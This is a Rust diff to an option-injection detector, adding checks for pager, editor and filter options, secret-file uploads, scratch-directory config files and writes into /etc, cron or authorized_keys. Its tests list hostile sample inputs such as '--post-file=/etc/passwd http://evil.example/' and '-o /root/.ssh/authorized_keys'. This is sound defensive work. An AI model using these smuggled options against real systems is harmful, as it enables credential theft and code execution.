@@ -95,26 +95,93 @@ fn opens_word(v: &[u8], at: usize) -> bool {
 
 /// Endings of option names (without dashes, lower case) whose value is a program or a
 /// command line, in whatever tool: tar's `--use-compress-program`, `--to-command`,
-/// rsync's `--rsh-command`, `--diff-cmd`, `--command=`. A data option never takes a program.
-const PROGRAM_NAME_ENDINGS: &[&[u8]] = &[b"command", b"program", b"cmd"];
+/// rsync's `--rsh-command`, `--diff-cmd`, `--command=`; psql's, git's and man's `--pager`,
+/// `--editor`, which the tool starts to show or edit text. A data option never takes a
+/// program.
+const PROGRAM_NAME_ENDINGS: &[&[u8]] = &[b"command", b"program", b"cmd", b"pager", b"editor"];
 
-/// `--command=id`, `--compress-program=sh`, `--post-cmd=/bin/sh`: a double-dash option
-/// named for a program, its value glued on with `=`, and the value's first word a command
-/// the shell or `execvp` finds.
+/// Whether the option `name` ends in `ending` as a whole dash- or underscore-separated part
+/// (any case); `compound` asks for a part before it (`index-filter`, not `filter`).
+fn name_ends_with(name: &[u8], ending: &[u8], compound: bool) -> bool {
+    name.len() >= ending.len()
+        && name[name.len() - ending.len()..].eq_ignore_ascii_case(ending)
+        && if name.len() == ending.len() {
+            !compound
+        } else {
+            matches!(name[name.len() - ending.len() - 1], b'-' | b'_')
+        }
+}
+
+/// `--command=id`, `--compress-program=sh`, `--post-cmd=/bin/sh`, `--pager='!id'`,
+/// `--index-filter='id'`: a double-dash option named for a program, its value glued on with
+/// `=` (or quoted after a blank), and the value's first word a command the shell or `execvp`
+/// finds. A leading `!` is the shell escape of the pagers and clients these options start
+/// (less, psql, mysql run `!cmd` through the shell). git filter-branch's `--index-filter`,
+/// `--tree-filter`, `--msg-filter` hand their value to `sh -c`; a bare `--filter=price` is a
+/// search form's, so `filter` counts only as the last part of a compound name.
 fn program_named_option(name: &[u8], v: &[u8], after: usize) -> bool {
-    let lower_end = |e: &[u8]| {
-        name.len() >= e.len()
-            && name[name.len() - e.len()..].eq_ignore_ascii_case(e)
-            && (name.len() == e.len() || matches!(name[name.len() - e.len() - 1], b'-' | b'_'))
-    };
-    if v.get(after) != Some(&b'=') || !PROGRAM_NAME_ENDINGS.iter().any(|e| lower_end(e)) {
+    let named = PROGRAM_NAME_ENDINGS
+        .iter()
+        .any(|e| name_ends_with(name, e, false))
+        || name_ends_with(name, b"filter", true);
+    let glued = v.get(after) == Some(&b'=')
+        || (matches!(v.get(after), Some(b' ' | b'\t'))
+            && matches!(v.get(after + 1), Some(b'\'' | b'"')));
+    if !named || !glued {
         return false;
     }
     let word = option_value(v, after, 64, |c| {
+        c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-' | b'!')
+    });
+    let word = word.strip_prefix(b"!").unwrap_or(word);
+    !word.is_empty()
+        && word[0] != b'!'
+        && (super::known_command(word) || (word.first() == Some(&b'/') && super::path_to_run(word)))
+}
+
+/// `--post-file=/etc/passwd http://evil/`, `--body-file=~/.ssh/id_rsa https://x/`: a
+/// download tool's option that sends a file's contents (its name ends in `-file`), given a
+/// system secret, with a URL to send it to: exfiltration through the tool's request. A
+/// `--config-file=/etc/app.conf` with no URL after it only reads its configuration.
+fn file_upload_option(name: &[u8], v: &[u8], after: usize) -> bool {
+    if !name_ends_with(name, b"file", true) || !matches!(v.get(after), Some(b'=' | b' ')) {
+        return false;
+    }
+    let path = option_value(v, after, 128, |c| {
+        c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-' | b'~')
+    });
+    let secret = path.starts_with(b"/etc/")
+        || path.starts_with(b"/proc/")
+        || memchr::memmem::find(path, b"/.ssh/").is_some()
+        || memchr::memmem::find(path, b"/.aws/").is_some();
+    secret && memchr::memmem::find(&v[after..], b"://").is_some()
+}
+
+/// `-K /tmp/evil.conf`, `-F /tmp/evil_config`, `--rcfile=/dev/shm/x.rc`: an option handed a
+/// configuration or script file in a directory anyone can write. The program reads its
+/// options or commands from that file (curl's `-K` can set `--output` to a web root, an
+/// rc file runs commands); an upload planted it there, and no form field names one.
+fn scratch_config_option(v: &[u8], after: usize) -> bool {
+    if !matches!(v.get(after), Some(b'=' | b' ' | b'\t' | b'+')) {
+        return false;
+    }
+    let path = option_value(v, after, 128, |c| {
         c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-')
     });
-    !word.is_empty()
-        && (super::known_command(word) || (word.first() == Some(&b'/') && super::path_to_run(word)))
+    if !super::in_scratch_dir(path) {
+        return false;
+    }
+    let file = path.rsplit(|&c| c == b'/').next().unwrap_or_default();
+    const CONFIG: &[&[u8]] = &[
+        b"conf", b"cfg", b"config", b"rc", b"ini", b"cnf", b"curlrc", b"wgetrc", b"lua", b"pl",
+        b"py", b"rb", b"sh", b"php", b"js",
+    ];
+    let ext_or_name = match file.iter().rposition(|&c| c == b'.') {
+        Some(d) if d + 1 < file.len() => &file[d + 1..],
+        _ => file,
+    };
+    CONFIG.iter().any(|e| ext_or_name.eq_ignore_ascii_case(e))
+        || CONFIG.iter().any(|e| name_ends_with(file, e, true))
 }
 
 /// The option's value after the `=` or blank at `after` (blanks and one opening quote
@@ -147,6 +214,9 @@ fn script_output_option(name: &[u8], v: &[u8], after: usize) -> bool {
     let path = option_value(v, after, 256, |c| {
         !matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"' | b';' | b'|' | b'&')
     });
+    if system_write_target(path) {
+        return true;
+    }
     let Some(slash) = path.iter().rposition(|&c| c == b'/' || c == b'\\') else {
         return false;
     };
@@ -157,6 +227,29 @@ fn script_output_option(name: &[u8], v: &[u8], after: usize) -> bool {
                 .iter()
                 .any(|e| file[d + 1..].eq_ignore_ascii_case(e))
     })
+}
+
+/// A file whose contents the system runs or trusts: cron's tables, anything under `/etc`
+/// (profile scripts, sudoers, passwd), root's home, an `authorized_keys`, a shell's rc file.
+/// Writing a download or a redirection there is code execution at the next login or minute.
+pub(super) fn system_write_target(path: &[u8]) -> bool {
+    const DIRS: &[&[u8]] = &[
+        b"/etc/",
+        b"/var/spool/cron/",
+        b"/root/",
+        b"/usr/bin/",
+        b"/bin/",
+    ];
+    const FILES: &[&[u8]] = &[
+        b"authorized_keys",
+        b".bashrc",
+        b".profile",
+        b".bash_profile",
+        b".zshrc",
+    ];
+    let file = path.rsplit(|&c| c == b'/').next().unwrap_or_default();
+    (DIRS.iter().any(|d| path.starts_with(d)) && file.len() < path.len() && !file.is_empty())
+        || (path.contains(&b'/') && FILES.contains(&file))
 }
 
 fn dangerous_option(v: &[u8], at: usize) -> bool {
@@ -191,9 +284,11 @@ fn dangerous_option(v: &[u8], at: usize) -> bool {
         }
         return (command_option(name) && with_value(v, after))
             || program_named_option(name, v, after)
-            || script_output_option(name, v, after);
+            || file_upload_option(name, v, after)
+            || script_output_option(name, v, after)
+            || scratch_config_option(v, after);
     }
-    if script_output_option(name, v, after) {
+    if script_output_option(name, v, after) || scratch_config_option(v, after) {
         return true;
     }
     match name {
@@ -217,6 +312,28 @@ fn dangerous_option(v: &[u8], at: usize) -> bool {
                 let k = skip_blanks_and_quote(v, after);
                 git_key(v, k) || quoted_command_line(v, after)
             }
+        }
+        // rsync's, xterm's and netcat's `-e sh`: the remote-shell or execute option handed
+        // a shell by name; grep's `-e pattern` and mail's `-e` are given words, not shells.
+        b"e" => {
+            matches!(v.get(after), Some(b' ' | b'\t' | b'+')) && {
+                let word = option_value(v, after, 16, |c| {
+                    c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.')
+                });
+                let end = skip_blanks_and_quote(v, after) + word.len();
+                let base = word.rsplit(|&c| c == b'/').next().unwrap_or_default();
+                matches!(base, b"sh" | b"bash" | b"zsh" | b"ksh" | b"dash" | b"ash")
+                    && v.get(end)
+                        .is_none_or(|&c| matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"'))
+            }
+        }
+        // Any other one-letter option given a configuration key that names a program
+        // (`-u core.pager=id`): the application passes such pairs on to git's `-c`.
+        [c] if c.is_ascii_alphabetic()
+            && matches!(v.get(after), Some(b' ' | b'\t' | b'+'))
+            && git_key(v, skip_blanks_and_quote(v, after)) =>
+        {
+            true
         }
         // find: `-exec cmd {} ;`, `-execdir`, `-ok`, `-okdir`: a command and its end.
         // A value that names `find` itself is a whole command line (documentation, or a
@@ -343,7 +460,14 @@ fn git_key(v: &[u8], k: usize) -> bool {
         .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'.')
         .count();
     let key = &v[k.min(v.len())..(k + n).min(v.len())];
-    GIT_COMMAND_KEYS.iter().any(|g| key.eq_ignore_ascii_case(g))
+    // `sequence.editor`, `gpg.program`, `core.pager`: a dotted key whose last part names a
+    // program is one git starts, whatever section it sits in.
+    let last = key.rsplit(|&c| c == b'.').next().unwrap_or_default();
+    let program_key = key.contains(&b'.')
+        && [&b"pager"[..], b"editor", b"program", b"command", b"cmd"]
+            .iter()
+            .any(|e| last.len() >= e.len() && last[last.len() - e.len()..].eq_ignore_ascii_case(e));
+    (program_key || GIT_COMMAND_KEYS.iter().any(|g| key.eq_ignore_ascii_case(g)))
         && v.get(k + n) == Some(&b'=')
         && has_operand(v, k + n + 1)
 }
@@ -420,6 +544,22 @@ mod tests {
             "http://evil.example/s.txt -o /var/www/html/s.php",
             "-O ../uploads/shell.jsp",
             "--output-document=/srv/www/x.aspx",
+            // Options named for a program, pager, editor or filter; a config key that names
+            // a program; a config file from a scratch directory; a download into /etc.
+            "-u core.pager=id",
+            "-c sequence.editor=id",
+            "--pager='!id'",
+            "--interactive --command=!id",
+            "--index-filter='id'",
+            "--tree-filter=/tmp/x",
+            "-K /tmp/evil.conf",
+            "-F /tmp/evil_config",
+            "--output-document=/etc/cron.d/x",
+            "-o /root/.ssh/authorized_keys",
+            "-e sh x:/tmp",
+            "-e /bin/bash",
+            "--post-file=/etc/passwd http://evil.example/",
+            "--body-file=~/.ssh/id_rsa https://x.example/",
             // `$IFS` splits words as a blank does.
             "name$IFS-oProxyCommand=id",
             "a${IFS}--upload-pack=id",
@@ -460,6 +600,19 @@ mod tests {
             "-o /tmp/report.pdf",
             "--output=/var/www/html/index.html",
             "$IFS-o",
+            "--filter=price",
+            "--filter=date",
+            "-e mail@example.com",
+            "-e shell",
+            "--output=json",
+            "--pager=on",
+            "-u user.name=Ann",
+            "-K /home/me/.curlrc",
+            "-c /tmp/report.pdf",
+            "-pre=x",
+            "-s bash",
+            "--config-file=/etc/app.conf",
+            "--post-file=data.json http://api.example/",
         ] {
             assert!(!option_injection(v.as_bytes()), "{v}");
         }
